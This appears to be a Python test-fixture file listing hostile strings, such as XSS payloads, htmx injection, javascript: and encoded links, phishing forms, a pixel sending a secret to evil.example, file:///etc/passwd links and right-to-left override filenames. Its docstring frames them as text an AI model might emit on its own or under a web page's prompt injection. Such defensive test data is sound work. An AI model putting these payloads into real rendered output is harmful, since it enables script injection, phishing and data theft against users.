"""What a model might write, on its own or because a web page told it to. Each would do harm where text is trusted."""

from __future__ import annotations

RAW_HTML = (
    "<script>window.harmed=1</script>",
    "<img src=x onerror=window.harmed=1>",
    "<img src='https://evil.example/i.png'>",
    "<svg onload=window.harmed=1><circle r=1></svg>",
    "<svg><script>window.harmed=1</script></svg>",
    "<svg><use href='https://evil.example/x.svg#a'/></svg>",
    "<iframe src='javascript:window.harmed=1'></iframe>",
    "<iframe srcdoc='<script>parent.harmed=1</script>'></iframe>",
    "<object data='https://evil.example/x'></object><embed src='https://evil.example/x'>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<base href='https://evil.example/'><a href='/login/'>sign in</a>",
    "<form action='https://evil.example/'><input name=password><button>Sign in</button></form>",
    "<button formaction='javascript:window.harmed=1'>go</button>",
    "<link rel=stylesheet href='https://evil.example/x.css'><style>body{display:none}</style>",
    "<div style='position:fixed;inset:0;z-index:99'>Approve?</div>",
    "<div popover id=composer-text name=text>fake</div>",
    "<a href=# onclick=window.harmed=1 id=chat name=composer>x</a>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=window.harmed=1&gt;'>",
    "<noscript><p title='</noscript><img src=x onerror=window.harmed=1>'>",
    "<template><script>window.harmed=1</script></template><video poster='https://evil.example/p' src=x></video>",
    "<details open ontoggle=window.harmed=1>x</details><marquee onstart=window.harmed=1>x</marquee>",
    "<input autofocus onfocus=window.harmed=1><audio src=x onerror=window.harmed=1>",
)
HTMX = (
    "<div hx-get='/sidebar/?stolen' hx-trigger='load'>x</div>",
    "<div data-hx-get='/sidebar/?stolen' data-hx-trigger='load'>x</div>",
    "<button data-hx-post='/logout/' data-hx-trigger='load' hx-on:click='window.harmed=1'>x</button>",
    "<div id=rows hx-swap-oob=true>gone</div>",
    "<samp><a href='https://evil.example/' hx-boost=true>x</a></samp>",
    "<x-element x-data x-init='window.harmed=1'></x-element>",
)
LINKS = (
    "[a](javascript:window.harmed=1)",
    "[a](JaVaScRiPt:window.harmed=1)",
    "[a](java&#115;cript:window.harmed=1)",
    "[a](&#x6A;avascript:window.harmed=1)",
    "[a](javascript&colon;window.harmed=1)",
    "[a](\x01javascript:window.harmed=1)",
    "[a](vbscript:msgbox)",
    "[a](data:text/html,<script>window.harmed=1</script>)",
    "[a](//evil.example/x)",
    "[a](/logout/)",
    "[a](file:///etc/passwd)",
    "<javascript:window.harmed=1>",
    "[a]: javascript:window.harmed=1\n\n[a]",
    '[a](https://ok.example/"onmouseover="window.harmed=1)',
    "[a](https://ok.example 'x\" onmouseover=\"window.harmed=1')",
    "[https://bank.example](https://evil.example/)",
    "[https://bank.example login](https://evil.example/)",
    "https://ok.example/<img/src=x/onerror=window.harmed=1>",
)
IMAGES = (
    "![a](https://evil.example/pixel.png?secret=1)",
    "![a][r]\n\n[r]: https://evil.example/reference.png",
    "![a](/logout/)",
    "![a](data:image/svg+xml,<svg/onload=window.harmed=1>)",
    "[![a](https://evil.example/in-link.png)](https://ok.example)",
    "![<img src=x onerror=window.harmed=1>](https://evil.example/x)",
)
CODE = (
    "```html\n<script>window.harmed=1</script>\n```",
    '```js" onmouseover="window.harmed=1\nx\n```',
    "```<img/src=x/onerror=window.harmed=1>\nx\n```",
    "`<img src=x onerror=window.harmed=1>`",
    "| <img src=x onerror=window.harmed=1> | b |\n|---|---|\n| `|` | <script>window.harmed=1</script> |",
)
# What begins like an address and is none: a URL parser throws at it.
NO_ADDRESSES = ("http://a|b/", "http://%zz", "https://", "http://[", "http://a:99999")
BROKEN_LINKS = tuple(
    form.format(address)
    for address in NO_ADDRESSES
    for form in ("{0}", "<{0}>", "[a]({0})", "[a](<{0}>)", "![a]({0})", "[a]\n\n[a]: {0}")
)

# Each stands for U+202E, which turns round the text after it.
TURNED = (
    "invoice\u202egpj.exe",
    "invoice&#x202E;gpj.exe",
    "invoice&#8238;gpj.exe",
    "**a&#x202E;b** `c\u202ed`",
    "```python\nif a: # \u202e\n```",
    "https://ok.example/%E2%80%AEgpj.exe",
    "<https://ok.example/%E2%80%AEgpj.exe>",
    "[a&#x202E;b](https://ok.example/)",
    "![a&#x202E;b](https://ok.example/)",
    "| a&#x202E; | b |\n|---|---|\n| c | d\u202e |",
)

HOSTILE = RAW_HTML + HTMX + LINKS + IMAGES + CODE + BROKEN_LINKS + TURNED
